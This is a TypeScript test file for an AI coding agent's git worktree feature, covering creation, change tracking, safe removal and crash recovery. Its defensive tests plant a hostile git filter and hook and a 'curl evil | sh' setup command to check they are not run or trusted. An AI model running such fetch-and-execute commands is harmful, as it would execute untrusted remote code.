import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'mocha';
import type { AppServerProcess } from '../support/appServerProcess.ts';
import { type ReceivedRequest, respond, say } from '../support/model/fakeModelServer.ts';
import { functionCall } from '../support/model/modelEvents.ts';
import { type ServerFixture, serverFixture } from '../support/serverFixture.ts';

const TIMES = Number(process.env['TILLER_CRASHES'] ?? 4);

describe('worktrees', () => {
	let fixture: ServerFixture;
	let folder: string;

	const env = () => ({ ...process.env, ...fixture.home.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' });
	const git = (cwd: string, ...args: string[]) =>
		execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', '-c', 'protocol.file.allow=always', ...args], {
			cwd,
			env: env(),
			stdio: 'pipe',
		})
			.toString()
			.replace(/\n$/, '');
	const write = (root: string, name: string, text: string | Buffer) => {
		mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
		writeFileSync(path.join(root, name), text);
	};
	const read = (root: string, name: string) => readFileSync(path.join(root, name), 'utf8');
	const open = async (): Promise<AppServerProcess> => {
		const server = fixture.start();
		await server.initialize({ experimentalApi: true });
		return server;
	};
	const create = async (server: AppServerProcess, params: object = {}) =>
		(await server.request('worktree/create', { cwd: folder, ...params })).worktree;
	/** All that git and the disk know of worktrees. */
	const traces = () => ({
		worktrees: git(folder, 'worktree', 'list', '--porcelain'),
		refs: git(folder, 'for-each-ref', '--format=%(refname) %(objectname)'),
		status: git(folder, 'status', '--porcelain', '--ignored'),
		config: read(folder, '.git/config'),
		records: listed(path.join(fixture.home.codexHome, 'tiller/worktrees')),
		folders: listed(path.join(fixture.home.codexHome, 'worktrees')),
	});

	beforeEach(async () => {
		fixture = await serverFixture();
		folder = path.join(fixture.home.workspace, 'project');
		write(folder, 'a.txt', 'one\ntwo\nthree\nfour\nfive\n');
		write(folder, 'sub/b.txt', 'b\n');
		write(folder, '.gitignore', '.env*\nnode_modules\n');
		write(folder, '.env', 'KEY=1\n');
		write(folder, 'sub/.env.local', 'KEY=2\n');
		write(folder, 'node_modules/x/.env', 'KEY=3\n');
		git(folder, 'init', '-q', '-b', 'main');
		git(folder, 'add', '.');
		git(folder, 'commit', '-qm', 'first');
	});
	afterEach(() => fixture.dispose());

	it('are checkouts beside the folder with the ignored files that are wanted, and go without a trace', async () => {
		const server = await open();
		const before = traces();
		const { worktree, setup, warnings } = await server.request('worktree/create', {
			cwd: path.join(folder, 'sub'),
			name: 'Fix the Parser!',
			copy: ['.env*'],
		});
		assert.deepEqual([worktree.branch, setup, warnings], ['tiller/fix-the-parser', null, []]);
		assert.equal(worktree.cwd, path.join(worktree.folder, 'sub'));
		assert.equal(git(worktree.folder, 'rev-parse', '--abbrev-ref', 'HEAD'), worktree.branch);
		assert.deepEqual([read(worktree.folder, '.env'), read(worktree.folder, 'sub/.env.local')], ['KEY=1\n', 'KEY=2\n']);
		assert.equal(existsSync(path.join(worktree.folder, 'node_modules')), false);
		assert.equal(git(folder, 'status', '--porcelain'), '');
		assert.deepEqual((await server.request('worktree/list', {})).data, [worktree]);
		assert.deepEqual(await server.request('worktree/remove', { id: worktree.id }), { risk: null });
		assert.deepEqual(traces(), before);
	});

	it('have the changes of the folder when that is wanted, and leave the folder and its index alone', async () => {
		write(folder, 'a.txt', 'ONE\ntwo\nthree\nfour\nfive\n');
		write(folder, 'new.txt', 'new\n');
		rmSync(path.join(folder, 'sub/b.txt'));
		git(folder, 'add', 'a.txt');
		const server = await open();
		const before = git(folder, 'status', '--porcelain');
		const worktree = await create(server, { start: 'folder' });
		assert.equal(git(folder, 'status', '--porcelain'), before);
		assert.deepEqual([read(worktree.folder, 'a.txt').slice(0, 3), read(worktree.folder, 'new.txt')], ['ONE', 'new\n']);
		assert.equal(existsSync(path.join(worktree.folder, 'sub/b.txt')), false);
		assert.deepEqual((await server.request('worktree/changes', { id: worktree.id })).changes, [], 'what it began with is no change');
		write(worktree.folder, 'a.txt', 'ONE\ntwo\nthree\nfour\nFIVE\n');
		const { changes } = await server.request('worktree/changes', { id: worktree.id });
		assert.deepEqual(
			changes.map(({ path: file, status, before: was }: { path: string; status: string; before: string }) => [file, status, was]),
			[['a.txt', 'modified', 'ONE\ntwo\nthree\nfour\nfive\n']],
		);
		assert.deepEqual(await server.request('worktree/remove', { id: (await create(server)).id }), { risk: null });
	});

	it('tell every change, also what was committed there, and forget what the folder has', async () => {
		const server = await open();
		const { id, folder: own } = await create(server);
		write(own, 'a.txt', 'one\ntwo\nthree\nfour\nFIVE\n');
		git(own, 'commit', '-qam', 'in the worktree');
		write(own, 'new.txt', 'new\n');
		write(own, 'pixels.bin', Buffer.from([0, 1, 2, 255]));
		rmSync(path.join(own, 'sub/b.txt'));
		const { tree, changes } = await server.request('worktree/changes', { id });
		const brief = (all: readonly { path: string; status: string; kind: string }[]) =>
			all.map(({ path: file, status, kind }) => `${status} ${kind} ${file}`);
		assert.deepEqual(brief(changes), ['modified text a.txt', 'added text new.txt', 'added binary pixels.bin', 'deleted text sub/b.txt']);
		await server.request('worktree/applied', {
			id,
			tree,
			files: [
				{ path: 'a.txt', before: null },
				{ path: 'sub/b.txt', before: null },
			],
		});
		const left = await server.request('worktree/changes', { id });
		assert.deepEqual(brief(left.changes), ['added text new.txt', 'added binary pixels.bin']);
		// Changed again after it was brought back: what was brought back is what both began with.
		write(own, 'a.txt', 'ONE\ntwo\nthree\nfour\nFIVE\n');
		const again = await server.request('worktree/changes', { id });
		assert.equal(again.changes[0].before, 'one\ntwo\nthree\nfour\nFIVE\n');
	});

	it('tell what became a program, and what is none any more', async () => {
		const server = await open();
		write(folder, 'run.sh', 'echo\n');
		chmodSync(path.join(folder, 'run.sh'), 0o755);
		git(folder, 'add', '.');
		git(folder, 'commit', '-qm', 'a program');
		const { id, folder: own } = await create(server);
		chmodSync(path.join(own, 'a.txt'), 0o755);
		chmodSync(path.join(own, 'run.sh'), 0o644);
		write(own, 'new.sh', 'echo\n');
		chmodSync(path.join(own, 'new.sh'), 0o755);
		write(own, 'sub/b.txt', 'changed\n');
		const { changes } = await server.request('worktree/changes', { id });
		assert.deepEqual(
			changes.map(({ path: file, executable }: { path: string; executable: boolean | null }) => [file, executable]),
			[
				['a.txt', true],
				['new.sh', true],
				['run.sh', false],
				['sub/b.txt', null],
			],
		);
	});

	it('bring back again what the person took out of the folder', async () => {
		const server = await open();
		const { id, folder: own } = await create(server);
		write(own, 'a.txt', 'changed\n');
		const { tree } = await server.request('worktree/changes', { id });
		const { createHash } = await import('node:crypto');
		const before = createHash('sha256').update(read(folder, 'a.txt')).digest('hex');
		await server.request('worktree/applied', { id, tree, files: [{ path: 'a.txt', before }] });
		assert.equal((await server.request('worktree/changes', { id })).changes.length, 1, 'the folder has not changed: it was taken back at once');
		write(folder, 'a.txt', 'changed\n');
		assert.deepEqual((await server.request('worktree/changes', { id })).changes, []);
	});

	it('are not removed with work that is nowhere else, unless exactly that was named', async () => {
		const server = await open();
		const { id, folder: own, branch } = await create(server, { copy: ['.env'] });
		write(own, 'new.txt', 'new\n');
		write(own, '.env', 'KEY=changed\n');
		git(own, 'commit', '-q', '--allow-empty', '-m', 'a commit');
		const { risk } = await server.request('worktree/remove', { id });
		assert.deepEqual(
			[risk.files, risk.commits.map(({ title }: { title: string }) => title), risk.copies, risk.detached],
			[['new.txt'], ['a commit'], ['.env'], false],
		);
		write(own, 'newer.txt', 'newer\n');
		const second = await server.request('worktree/remove', { id, confirmed: risk.token });
		assert.deepEqual(second.risk.files, ['new.txt', 'newer.txt'], 'what came since was not agreed to');
		const tip = git(own, 'rev-parse', 'HEAD');
		assert.deepEqual(await server.request('worktree/remove', { id, confirmed: second.risk.token, keepBranch: true }), { risk: null });
		assert.equal(git(folder, 'rev-parse', branch), tip);
		assert.equal(existsSync(own), false);
	});

	it('are left alone where nobody can say what would be lost', async () => {
		const server = await open();
		const { id, folder: own } = await create(server);
		const pointer = read(own, '.git');
		rmSync(path.join(own, '.git'));
		await assert.rejects(server.request('worktree/remove', { id }), /nothing was removed/);
		write(own, '.git', pointer);
		const elsewhere = `${folder}-moved`;
		renameSync(folder, elsewhere);
		await assert.rejects(server.request('worktree/remove', { id }), /nothing was removed/);
		assert.ok(existsSync(path.join(own, 'a.txt')));
		renameSync(elsewhere, folder);
		assert.deepEqual(await server.request('worktree/remove', { id }), { risk: null });
	});

	it('can be removed when somebody took their folder away', async () => {
		const server = await open();
		const before = traces();
		const { id, folder: own } = await create(server);
		rmSync(own, { recursive: true });
		assert.equal((await server.request('worktree/list', {})).data[0].missing, true);
		assert.deepEqual(await server.request('worktree/remove', { id }), { risk: null });
		assert.deepEqual(traces(), before);
	});

	it('are remembered as long as a lock of git keeps their branch, and go wholly when it is gone', async () => {
		const server = await open();
		const before = traces();
		const { id, branch } = await create(server, { name: 'locked' });
		git(folder, 'pack-refs', '--all');
		const lock = path.join(folder, '.git', 'packed-refs.lock');
		writeFileSync(lock, '');
		await assert.rejects(server.request('worktree/remove', { id }), /packed-refs\.lock/);
		assert.equal(git(folder, 'branch', '--list', branch).trim(), branch);
		rmSync(lock);
		assert.deepEqual((await server.request('worktree/list', {})).data, []);
		assert.deepEqual(traces(), before);
	});

	it('have the submodules of the folder, from the folder, and name work in them', async () => {
		const library = path.join(fixture.home.workspace, 'library');
		write(library, 'lib.txt', 'lib\n');
		git(library, 'init', '-q');
		git(library, 'add', '.');
		git(library, 'commit', '-qm', 'lib');
		git(folder, 'submodule', 'add', '-q', library, 'vendor/lib');
		git(folder, 'commit', '-qam', 'submodule');
		// Nobody is there to fetch from.
		rmSync(library, { recursive: true });
		const server = await open();
		const { worktree, warnings } = await server.request('worktree/create', { cwd: folder });
		assert.deepEqual(warnings, []);
		assert.equal(read(worktree.folder, 'vendor/lib/lib.txt'), 'lib\n');
		assert.equal(git(path.join(worktree.folder, 'vendor/lib'), 'remote', 'get-url', 'origin'), library);
		write(worktree.folder, 'vendor/lib/lib.txt', 'changed\n');
		assert.deepEqual((await server.request('worktree/remove', { id: worktree.id })).risk.submodules, ['vendor/lib']);
		git(path.join(worktree.folder, 'vendor/lib'), 'checkout', '-q', '.');
		assert.deepEqual(await server.request('worktree/remove', { id: worktree.id }), { risk: null });
		assert.equal(read(folder, 'vendor/lib/lib.txt'), 'lib\n');
	});

	it('keep a sparse checkout sparse, and run no hook and no filter of the repository', async () => {
		write(folder, 'big/large.txt', 'large\n');
		write(folder, '.gitattributes', '*.txt filter=evil\n');
		git(folder, 'add', '.');
		git(folder, 'commit', '-qm', 'more');
		git(folder, 'sparse-checkout', 'set', 'sub');
		const ran = path.join(fixture.home.workspace, 'ran');
		git(folder, 'config', 'filter.evil.smudge', `touch ${ran}; cat`);
		write(folder, '.git/hooks/post-checkout', `#!/bin/sh\ntouch ${ran}\n`);
		execFileSync('chmod', ['+x', path.join(folder, '.git/hooks/post-checkout')]);
		const server = await open();
		const { worktree, warnings } = await server.request('worktree/create', { cwd: folder });
		assert.deepEqual([existsSync(path.join(worktree.folder, 'sub/b.txt')), existsSync(path.join(worktree.folder, 'big'))], [true, false]);
		assert.equal(existsSync(ran), false);
		assert.match(warnings.join(), /The filter evil/);
		assert.deepEqual((await server.request('worktree/changes', { id: worktree.id })).changes, []);
		assert.deepEqual(await server.request('worktree/remove', { id: worktree.id }), { risk: null });
	});

	it('say why there can be none', async () => {
		const server = await open();
		const refused = async (params: object, why: RegExp) => await assert.rejects(server.request('worktree/create', { cwd: folder, ...params }), why);
		await refused({ cwd: fixture.home.workspace }, /not a git repository/);
		await refused({ start: 'ref', ref: '--help' }, /no branch or commit "--help"/);
		await refused({ folder: path.join(folder, 'inside') }, /lies in the folder itself/);
		const empty = path.join(fixture.home.workspace, 'empty');
		mkdirSync(empty);
		git(empty, 'init', '-q');
		await refused({ cwd: empty }, /has no commit yet/);
		await assert.rejects(server.request('worktree/changes', { id: '../../x' }), /there is no worktree/);
		assert.deepEqual(listed(path.join(fixture.home.codexHome, 'worktrees')), []);
	});

	it('are trusted as their checkout is, and a folder that only says it belongs there is not', async () => {
		await fixture.home.config(
			`${readFileSync(path.join(fixture.home.codexHome, 'config.toml'), 'utf8')}\n[projects.${JSON.stringify(folder)}]\ntrust_level = "trusted"\n`,
		);
		write(folder, '.codex/config.toml', 'review_model = "of-the-project"\n[worktree]\nsetup = ["npm ci"]\n');
		git(folder, 'add', '.');
		git(folder, 'commit', '-qm', 'config');
		const server = await open();
		const { worktree, setup } = await server.request('worktree/create', { cwd: folder });
		const model = async (cwd: string) => (await server.request('config/read', { includeLayers: false, cwd })).config.review_model;
		assert.equal(await model(worktree.cwd), 'of-the-project');
		const liar = path.join(fixture.home.workspace, 'liar');
		write(liar, '.git', read(worktree.folder, '.git'));
		write(liar, '.codex/config.toml', 'review_model = "of-the-liar"\n');
		assert.equal(await model(liar), null);

		assert.deepEqual([setup.commands, setup.key, setup.trusted], [['npm ci'], folder, false]);
		await server.request('config/value/write', {
			keyPath: `worktree.trusted_setup.${JSON.stringify(setup.key)}`,
			value: setup.hash,
			mergeStrategy: 'upsert',
		});
		const again = await server.request('worktree/create', { cwd: folder });
		assert.equal(again.setup.trusted, true);
		write(folder, '.codex/config.toml', '[worktree]\nsetup = ["npm ci", "curl evil | sh"]\n');
		assert.equal((await server.request('worktree/create', { cwd: folder })).setup.trusted, false);
	});

	it('let three agents finish a task at the same time, each in its own', async () => {
		const server = await open();
		const worktrees = await Promise.all([1, 2, 3].map(() => create(server, { name: 'task' })));
		assert.deepEqual(worktrees.map(({ branch }) => branch).sort(), ['tiller/task', 'tiller/task-2', 'tiller/task-3']);
		const answer = ({ body }: ReceivedRequest) =>
			JSON.stringify(body).includes('function_call_output')
				? say('Done.')
				: respond(functionCall('exec_command', { cmd: 'pwd > where.txt && sed -i s/five/$(basename $PWD)/ a.txt' }, 'call_1'));
		fixture.model.add(...Array.from({ length: 6 }, () => answer));
		await Promise.all(
			worktrees.map(async (made) => {
				const { thread } = await server.request('thread/start', { cwd: made.cwd, sandbox: 'danger-full-access', approvalPolicy: 'never' });
				await server.runTurn(thread.id, 'go');
			}),
		);
		for (const made of worktrees) {
			assert.equal(read(made.folder, 'where.txt').trim(), made.folder);
			assert.match(read(made.folder, 'a.txt'), new RegExp(`four\n${path.basename(made.folder)}\n`));
		}
		assert.equal(git(folder, 'status', '--porcelain'), '');
	});

	it('leave nothing half made or half removed behind, wherever the server is killed', async () => {
		let server = await open();
		const before = traces();
		for (let round = 0; round < TIMES; round++) {
			const kept = round % 2 === 0 ? null : await create(server, { name: 'removed' });
			void (
				kept === null ? server.request('worktree/create', { cwd: folder, name: `made ${round}` }) : server.request('worktree/remove', { id: kept.id })
			).catch(() => {});
			// Some step of about twenty: the record, the branch, the files, ...
			const wait = Math.random() * 150;
			await new Promise((resolve) => setTimeout(resolve, wait));
			await server.kill();
			server = await open();
			// A git that is killed with the server can leave its lock, which only a person may take away.
			for (const file of readdirSync(path.join(folder, '.git'), { recursive: true, encoding: 'utf8' }))
				if (file.endsWith('.lock')) rmSync(path.join(folder, '.git', file));
			for (const { id, folder: own } of (await server.request('worktree/list', {})).data) {
				assert.equal(git(own, 'status', '--porcelain'), '', 'what is there is whole');
				assert.deepEqual(await server.request('worktree/remove', { id }), { risk: null });
			}
			assert.deepEqual(traces(), before, `round ${round}, killed after ${wait} ms`);
		}
	});

	function listed(at: string): readonly string[] {
		return existsSync(at) ? readdirSync(at).filter((name) => !name.endsWith('.tmp')) : [];
	}
});
